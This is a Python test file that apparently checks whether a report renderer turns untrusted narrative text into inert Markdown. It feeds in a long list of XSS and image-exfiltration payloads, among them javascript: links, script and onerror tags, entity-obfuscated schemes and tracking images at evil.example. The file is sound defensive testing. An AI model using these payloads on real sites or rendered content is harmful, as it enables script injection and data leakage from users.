"""The Markdown report read by viewers that trust it: raw HTML on, and links to anywhere."""

from __future__ import annotations

import html
import re
from urllib.parse import unquote

import pytest
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token
from mdit_py_plugins.dollarmath import dollarmath_plugin
from render_sample import NARRATIVE, report
from test_render_hostile import HOSTILE, calls

from artificer.render.language import language
from artificer.render.markdown import to_markdown
from artificer.render.narrative import read
from artificer.render.prose import passage_html
from artificer.render.source import passage_markdown

pytestmark = pytest.mark.req("markdown-inert")

ATTACKS = [
    "![](https://evil.example/?q=secret)",
    "![a](//evil.example/x) ![b](data:image/png;base64,AA) ![c](javascript:alert(1))",
    "![ref]\n\n[ref]: https://evil.example/pixel.png",
    "[![in a link](https://evil.example/i.png)](https://evil.example)",
    "![out [in](https://a.example)](https://evil.example/i.png)",
    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](vbscript:x) [d](data:text/html,hi)",
    "[x](java&#115;cript:alert(1)) [y](javascript&colon;alert(1)) [z](\\x01javascript:alert(1))",
    "[x]( &#32;javascript:alert(1)) [y](<javascript:alert(1)>) <javascript:alert(1)>",
    "[x][j] [j]\n\n[j]: javascript:alert(1) 'title'",
    "> [j]: javascript:alert(1)\n\n[j]",
    "- [j]: <data:text/html,x>\n\n[j][]",
    "<img src=https://evil.example/x onerror=alert(1)>",
    "<script>alert(1)</script>\n\n<style>@import url(//evil.example)</style>",
    "text <b onclick=alert(1)>bold</b> <!-- a comment --> <?php x ?> <![CDATA[x]]>",
    "<div>\n\n*words*\n\n</div>",
    "- item\n  - <iframe src=//evil.example></iframe>\n\n    <img src=x>",
    "1. > - <img src=x onerror=alert(1)>\n\n   <svg/onload=alert(1)>",
    "| a <img src=x> | ![b](https://evil.example/x) |\n|---|---|\n| <script> | `|` <b> |",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "&#33;&#91;x&#93;(https://evil.example/x)",
    "\\<img src=x> \\![x](https://evil.example) !\\[x](https://evil.example)",
    "![x!](https://evil.example/a)![y](https://evil.example/b)!",
    "hello! [x](https://ok.example) wow![x](https://ok.example)",
    "`a`[``<img src=x>``](relative)",
    "`a`[``b`<img src=x>``](relative)",
    "`a`![``<img src=x>``](relative)`b`",
    '<https://ok.example/"><img src=x>',
    "[x](<https://ok.example/)><img src=x>>)",
    "[a](https://ok.example/?x=1&quot;&gt;&lt;img src=x&gt;)",
    "    <img src=x>\n\ntext\n\n\t<script>alert(1)</script>",
    "&#32;&#32;&#32;&#32;<img src=x>\n&#9;<b>",
    "*&#10;<img src=x>*",
    '~~~html\n<img src=x>\n~~~\n\n```js"onmouseover=\nx\n```',
    "```\n<img src=x>",
    "Title <img src=x>\n===\n\nTwo ![x](https://evil.example/x)\n---",
    "# <script>alert(1)</script> ![x](https://evil.example/x) #",
    "{{artifact:list:l}}(javascript:alert(1)) [{{artifact:list:l}}](javascript:x)",
    "!{{artifact:chart:x}}(https://evil.example/x) ![{{artifact:table:t}}](https://evil.example/x)",
    "{{artifact:<img src=x>}} {{artifact:chart:![x](https://evil.example)}}",
    "[x](https://ok.example 'a\"><img src=x>')",
    '<a href="javascript:alert(1)">x</a>',
    "[^1]\n\n[^1]: ![x](https://evil.example/x)",
    "[^1]\n\n[^1]: javascript:alert(1)",
    "[^1] [^2]\n\n[^1]: javascript:alert(1) 'title'\n[^2]: ```\n    code",
    "[^1]\\(javascript:alert(1)) [^1]\\: x [a[^1]](https://ok.example)\n\n[^1]: x [^1]",
    "www.ok.example/<img src=x>",
]

VIEWERS = [
    MarkdownIt("commonmark", {"html": True}),
    MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]),
    MarkdownIt("js-default", {"html": True}),
]
for viewer in VIEWERS:
    viewer.validateLink = lambda url: True  # type: ignore[method-assign]


def tokens(text: str) -> list[Token]:
    """Everything that any viewer finds in the text."""
    found = [token for viewer in VIEWERS for token in viewer.parse(text)]
    return found + [child for token in found for child in token.children or ()]


def assert_inert(text: str) -> None:
    for token in tokens(text):
        assert token.type not in ("image", "html_block", "html_inline"), (token.content, text)
        if token.type == "link_open":
            assert re.match(r"(https?://|mailto:)", str(token.attrs["href"])), (token, text)
    for viewer in VIEWERS:
        defined: dict[str, object] = {}
        viewer.parse(text, defined)
        assert not defined.get("references"), text


@pytest.mark.parametrize("narrative", ATTACKS, ids=range(len(ATTACKS)))
def test_a_hostile_narrative_is_words_code_and_links_to_the_web(narrative: str) -> None:
    made = report(f"Words before.\n\n{narrative}\n\nWords after.", calls("x")[6:8])
    assert_inert(to_markdown(made))
    assert_inert(to_markdown(report(narrative, [])))


@pytest.mark.parametrize("text", [*HOSTILE, *ATTACKS], ids=range(len(HOSTILE + ATTACKS)))
def test_hostile_text_in_every_field_of_an_artifact_is_words(text: str) -> None:
    assert_inert(to_markdown(report(f"See {text}.", calls(text[:60]), title=text)))
    assert_inert(to_markdown(report("", calls(text[:60]), title=text)))


@pytest.mark.parametrize("narrative", ["<b>", "![x](https://evil.example/x)", "[x](javascript:y)"])
def test_this_test_sees_what_it_looks_for(narrative: str) -> None:
    with pytest.raises(AssertionError):
        assert_inert(f"Words {narrative}")


FRAGMENTS = [
    "word",
    "a_b",
    " ",
    "\n",
    "\n\n",
    "> ",
    "- ",
    "1. ",
    "# ",
    "    ",
    "`",
    "``",
    "```",
    "*",
    "**",
    "_",
    "~~",
    "[",
    "](",
    ")",
    "![",
    "<b>",
    "\\",
    "<https://a.example/",
    ">",
    "[r]: ",
    "&lt;",
    "&#10;",
    "&#32;",
    "&#33;",
    "&amp;lt;",
    "!",
    "(javascript:x)",
    "(rel)",
    "===",
    "~~~",
    "<img src=x>",
    "&copy;",
    "](https://b.example/a_b?x=1&copy;)",
    "{{artifact:list:l}}",
    "<!--",
    "-->",
    "</",
    "<?",
    "<![CDATA[",
    "\t",
    "data:",
    "//",
    "[^1]",
    "[^1]: ",
    "\n\n[^1]: ",
]
NARRATIVES = st.lists(
    st.sampled_from([*FRAGMENTS, "|", "\n|---|---|\n", "\n\n| a | b |\n|---|---|\n| "]), max_size=16
).map("".join)


@settings(max_examples=400, deadline=None)
@given(NARRATIVES | st.text(max_size=80))
@example("`a`[``b`<img src=x>``](rel)")
def test_any_narrative_is_inert(narrative: str) -> None:
    assert_inert(to_markdown(report(narrative, [])))


def page(narrative: str) -> str:
    return "".join(passage_html(p, lambda _: "", language("en"), top=True) for p in read(narrative))


def words(markup: str) -> str:
    """The words of a page, without white space and without what emphasises."""
    return re.sub(r"[\s*~\u200b]+", "", html.unescape(re.sub(r"<[^>]*>", "", markup)))


def links(markup: str) -> list[str]:
    return [unquote(html.unescape(url)) for url in re.findall(r'href="([^"]*)"', markup)]


def again(narrative: str) -> str:
    passages = read(narrative)
    return "\n\n".join(p.marks.literal(passage_markdown(p)) for p in passages)


@settings(max_examples=400, deadline=None)
@given(NARRATIVES)
@example("*&#10;>*")
def test_no_word_and_no_link_of_any_narrative_is_lost(narrative: str) -> None:
    # What stands alone in a definition is a link's target, in which nothing is cited.
    assume(not re.search(r"\]:\s*\S*\{\{", narrative))
    before, after = page(narrative), page(again(narrative))
    assert words(after) == words(before)
    assert links(after) == links(before)


BENIGN = [
    NARRATIVE,
    "# T\n\nOne *two* **three** ~~four~~ `five` [six](https://e.org/a_b?c=d&e=f).\nNext\\\nlast.",
    "> quote\n> more\n>\n> > nested\n\n- a\n- b\n  - c\n\n    more of c\n- d\n\n3. x\n4. y",
    "```py\nx = '`'\n\ny = 2\n```\n\n- item\n\n  ```\n  code in a list\n  ```\n\n***",
    "| a | b |\n|:--|--:|\n| `x\\|y` | 1 \\| 2 |\n\n###### deep # heading \\#",
    "snake_case_name, 2 * 3 < 7 & R&D, a -> b, [brackets], 5 > 4, `` a`b ``, wow!",
    "A claim.[^a] Another.[^b][^a]\n\n[^a]: Its source, with two\n    lines.\n\n    And more.\n\n"
    "[^b]: Two words\n\n[^c]: Never referred to.\n\nAfter.",
    "- [x] done\n- [ ] not *yet*\n- neither [ ]",
    "1986\\. A great year.\n\n\\- not a list\n\n\\# not a heading\n\n&amp;lt; <https://e.org>",
]


@pytest.mark.parametrize("narrative", BENIGN, ids=range(len(BENIGN)))
def test_an_ordinary_narrative_reads_the_same_and_stays_readable(narrative: str) -> None:
    once = again(narrative)
    assert page(once) == page(narrative)
    assert again(once) == once


def test_what_needs_no_escape_has_none() -> None:
    plain = (
        "Median latency fell by **38 %**, see snake_case, `p50(latency)` & [this](https://e.org)."
    )
    assert again(plain) == plain


def test_only_what_is_a_formula_on_the_page_is_one_for_a_viewer() -> None:
    dollars = r"\$-\$42 and \$\$x\$\$ and &#36;y&#36;, or **\$**z**\$**"
    made = to_markdown(report(f"{dollars}\n\n$a^2$", calls("$-$42 and $$x$$"), title="$t$"))
    viewer = MarkdownIt("commonmark").enable("table").use(dollarmath_plugin)
    tokens = [child for token in viewer.parse(made) for child in (token, *(token.children or ()))]
    formulas = [token.content for token in tokens if token.type.startswith("math")]
    assert formulas == ["`a^2`"]
